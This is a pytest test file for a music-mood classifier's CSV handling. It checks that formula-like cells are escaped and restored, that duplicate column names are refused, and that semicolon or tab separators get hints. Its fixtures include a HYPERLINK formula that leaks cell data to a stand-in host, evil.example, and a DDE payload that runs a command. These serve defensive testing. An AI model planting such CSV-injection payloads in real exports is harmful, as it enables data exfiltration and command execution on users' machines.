"""The CSVs we write and read: spreadsheet formulas, duplicate names, separators.

Text a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, CR at
the start) is written with a leading ``'`` by the one CSV writer
(``mer_classic._io``) and restored by every reader of our tables, so a label such
as ``=HYPERLINK(...)`` survives fetch → extract → train unchanged while a
spreadsheet shows it as text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import soundfile as sf
from click.testing import CliRunner
from mer_classic.cli.main import main

from mer_classic._io import (
    csv_text,
    escape_formula,
    escape_formulas,
    unescape_formulas,
    write_csv_atomic,
)
from mer_classic._large_tables import read_csv_chunked
from mer_classic._table import load_table, read_csv
from mer_classic.exceptions import DataError
from tests._spotify_fake import read_rows, tid

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LABELS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "calm"]


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


# ------------------------------------------------------------------ the writer
@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number stays a number
        ("-3", "-3"),
        ("-0.5e-3", "-0.5e-3"),
        ("-3 dB", "'-3 dB"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # an already quoted formula keeps its quote on reading
        ("'tis", "'tis"),
        ("sad", "sad"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_escape_formula(value, written):
    assert escape_formula(value) == written


def test_text_cells_index_and_names_are_escaped_numbers_untouched(tmp_path):
    df = pd.DataFrame(
        {"label": ["=1+1", "sad"], "=x": ["a", "b"], "score": [-1.5, 2.0]},
        index=pd.Index(["-intro", "t2"], name="track_id"),
    )
    write_csv_atomic(df, tmp_path / "t.csv")
    assert _cells(tmp_path / "t.csv") == [
        ["track_id", "label", "'=x", "score"],
        ["'-intro", "'=1+1", "a", "-1.5"],
        ["t2", "sad", "b", "2.0"],
    ]
    assert csv_text(df) == (tmp_path / "t.csv").read_text()
    assert df["label"].tolist() == ["=1+1", "sad"]  # the caller's frame is kept


def test_unescape_restores_every_value():
    values = LABELS + ["'=x", "''@y", "'tis", "-3", "'-3", "plain", np.nan]
    df = pd.DataFrame({"v": values, "n": range(len(values))})
    assert unescape_formulas(escape_formulas(df)).equals(df)


@pytest.mark.slow
def test_predictions_csv_of_train_and_predict_is_escaped(tmp_path, features_df):
    df = features_df.copy()
    df["label"] = np.where(df["label"] == "happy", EVIL, "calm")
    df.to_csv(tmp_path / "f.csv", index=False)
    runner = CliRunner()
    run = tmp_path / "run"
    args = ["train", "--data", str(tmp_path / "f.csv"), "--target", "label"]
    res = runner.invoke(
        main,
        [*args, "--id", "track_id", "--model", "logreg", "--cv", "2"]
        + ["--no-grid", "--out", str(run)],
    )
    assert res.exit_code == 0, res.output
    cells = _cells(run / "predictions.csv")
    assert "'" + EVIL in {c for row in cells for c in row}
    assert EVIL not in {c for row in cells for c in row}
    cm = _cells(run / "confusion_matrix.csv")
    assert "'" + EVIL in cm[0]
    assert json.loads((run / "metrics.json").read_text())["labels"] == sorted(
        ["calm", EVIL]
    )
    out = tmp_path / "p.csv"
    res = runner.invoke(
        main,
        ["predict", "--model", str(run), "--data", str(tmp_path / "f.csv")]
        + ["--id", "track_id", "--out", str(out)],
    )
    assert res.exit_code == 0, res.output
    labels = [row[1] for row in _cells(out)[1:]]
    assert set(labels) <= {"calm", "'" + EVIL} and "'" + EVIL in labels
    assert set(read_csv(out)["label"]) <= {"calm", EVIL}


def test_fetch_extract_train_round_trip_keeps_labels(tmp_path, monkeypatch):
    """fetch's tracks.csv → extract → the training reader: labels unchanged."""
    monkeypatch.delenv("SPOTIPY_CLIENT_ID", raising=False)
    table = tmp_path / "mine.csv"
    with open(table, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name", "artist", "mood"])
        for i, label in enumerate(LABELS[:4], start=1):
            w.writerow([tid(i), f"@song {i}", "-Ann", label])
    raw = tmp_path / "raw"
    (raw / "audio").mkdir(parents=True)
    t = np.arange(22050) / 22050
    for i in range(1, 5):  # the user's own audio, adopted by the offline fetch
        tone = 0.3 * np.sin(2 * np.pi * 220 * i * t) + 0.05 * np.sin(2 * np.pi * 50 * t)
        sf.write(raw / "audio" / f"{tid(i)}.mp3", tone, 22050, format="MP3")
    runner = CliRunner()
    res = runner.invoke(
        main, ["fetch", "--tracks", str(table), "--offline", "--out", str(raw)]
    )
    assert res.exit_code == 0, res.output
    rows = read_rows(raw / "tracks.csv")
    assert [r["label"] for r in rows] == ["'" + v for v in LABELS[:4]]
    assert {r["name"][:2] for r in rows} == {"'@"} and {r["artists"] for r in rows} == {
        "'-Ann"
    }
    # fetch reads its own table back unchanged (--tracks raw/tracks.csv)
    from mer_classic.fetch._sources import read_tracks_file

    assert [r.label for r in read_tracks_file(raw / "tracks.csv").rows] == LABELS[:4]
    feats = tmp_path / "features.csv"
    res = runner.invoke(main, ["extract", str(raw / "tracks.csv"), "-o", str(feats)])
    assert res.exit_code == 0, res.output
    header = _cells(feats)[0]
    assert "label" in header
    written = {row[header.index("label")] for row in _cells(feats)[1:]}
    assert written == {"'" + v for v in LABELS[:4]}
    back = read_csv(feats)
    assert sorted(back["label"]) == sorted(LABELS[:4])
    assert set(back["artists"]) == {"-Ann"}
    t = load_table(feats, target="label", id="track_id")
    assert sorted(t.y) == sorted(LABELS[:4])


def test_chunked_reader_restores_text(tmp_path):
    df = pd.DataFrame({"label": ["=a", "b", "@c"], "f": [1.0, 2.0, 3.0]})
    write_csv_atomic(df, tmp_path / "t.csv", index=False)
    back = read_csv_chunked(tmp_path / "t.csv", chunksize=2)
    assert back["label"].tolist() == ["=a", "b", "@c"]


# ------------------------------------------------------------ duplicate names
def _dup_table(tmp_path: Path, features_df: pd.DataFrame) -> Path:
    df = features_df[["track_id", "f1", "f2", "label"]].copy()
    text = df.to_csv(index=False).replace("f2", "f1", 1)  # header: f1 twice
    p = tmp_path / "dup.csv"
    p.write_text(text)
    return p


def test_duplicate_column_names_are_refused_by_every_reader(tmp_path, features_df):
    p = _dup_table(tmp_path, features_df)
    msg = f"data file '{p}' has duplicate column name(s) 'f1'; each column needs its own name (rename or drop the copies)"
    with pytest.raises(DataError) as err:
        read_csv(p)
    assert str(err.value) == msg
    with pytest.raises(DataError, match="duplicate column name"):
        load_table(p, target="label")
    with pytest.raises(DataError, match="duplicate column name"):
        read_csv_chunked(p, chunksize=5)
    frame = pd.DataFrame([[1.0, 2.0, "a"], [3.0, 4.0, "b"]], columns=["x", "x", "y"])
    with pytest.raises(DataError, match="duplicate column name.*'x'"):
        load_table(frame, target="y")


def test_a_real_column_named_like_a_renamed_copy_is_fine(tmp_path, features_df):
    df = features_df[["f1", "f2", "label"]].rename(columns={"f2": "f1.1"})
    df.to_csv(tmp_path / "ok.csv", index=False)
    assert list(read_csv(tmp_path / "ok.csv").columns) == ["f1", "f1.1", "label"]


def test_cli_duplicate_columns(tmp_path, features_df):
    p = _dup_table(tmp_path, features_df)
    res = CliRunner().invoke(
        main,
        ["train", "--data", str(p), "--target", "label", "--out", str(tmp_path / "r")],
    )
    assert res.exit_code == 1
    assert res.output.endswith(
        f"Error: data file '{p}' has duplicate column name(s) 'f1'; each column "
        "needs its own name (rename or drop the copies)\n"
    )
    assert not (tmp_path / "r").exists()


# ------------------------------------------------------------ separators
@pytest.mark.parametrize(
    "text",
    [
        "f1;f2;label\n1;2;a\n3;4;b\n",
        "f1;f2;label\n1,5;2;a\n3;4,25;b\n",  # decimal commas
    ],
)
def test_semicolon_separated_file_says_so(tmp_path, text):
    p = tmp_path / "semi.csv"
    p.write_text(text)
    res = CliRunner().invoke(
        main,
        ["train", "--data", str(p), "--target", "label", "--out", str(tmp_path / "r")],
    )
    assert res.exit_code == 1
    assert res.output.endswith(
        f"Error: data file '{p}' has a single column. It looks semicolon-separated "
        "(header 'f1;f2;label'); mer-classic reads comma-separated files: save it "
        "with commas, e.g. pandas.read_csv(path, sep=';').to_csv(new_path, "
        "index=False)\n"
    )


def test_semicolon_parse_error_gets_the_hint(tmp_path):
    p = tmp_path / "semi.csv"
    p.write_text("f1;f2;label\n1;2;a\n1,5,3;4;b,c,d\n")
    with pytest.raises(DataError, match="cannot parse .*It looks semicolon-separated"):
        read_csv(p)


def test_tab_separated_file_says_so(tmp_path):
    p = tmp_path / "tabs.csv"
    p.write_text("f1\tf2\tlabel\n1\t2\ta\n")
    with pytest.raises(DataError, match=r"It looks tab-separated .*sep='\\t'"):
        read_csv(p)


def test_comma_file_with_semicolons_in_text_is_read(tmp_path):
    p = tmp_path / "ok.csv"
    p.write_text('f1,label\n1,"a;b;c"\n2,d\n')
    assert read_csv(p)["label"].tolist() == ["a;b;c", "d"]


@pytest.mark.slow
def test_distributed_extraction_escapes_like_the_local_one(cluster, tmp_path):
    """Its part files are written by the same escaping (ids and labels)."""
    from mer_classic.features import extract_to_csv

    t = np.arange(22050) / 22050
    for i, label in enumerate(["=calm", "@sad"]):
        folder = tmp_path / "audio" / label
        folder.mkdir(parents=True)
        for j in range(2):
            tone = 0.3 * np.sin(2 * np.pi * (220 + 110 * i + 30 * j) * t)
            sf.write(folder / f"-take{j}.wav", tone.astype(np.float32), 22050)
    local, dask = tmp_path / "local.csv", tmp_path / "dask.csv"
    extract_to_csv([tmp_path / "audio"], local, label_from_folder=True)
    extract_to_csv(
        [tmp_path / "audio"],
        dask,
        scheduler=cluster.scheduler_address,
        label_from_folder=True,
    )
    assert dask.read_bytes() == local.read_bytes()
    cells = _cells(dask)
    header = cells[0]
    assert {row[header.index("label")] for row in cells[1:]} == {"'=calm", "'@sad"}
    ids = {f"{lab}/-take{j}" for lab in ("=calm", "@sad") for j in range(2)}
    assert {row[0] for row in cells[1:]} == {"'" + i for i in ids}  # same stems
    back = read_csv(dask)
    assert set(back["label"]) == {"=calm", "@sad"} and set(back["track_id"]) == ids
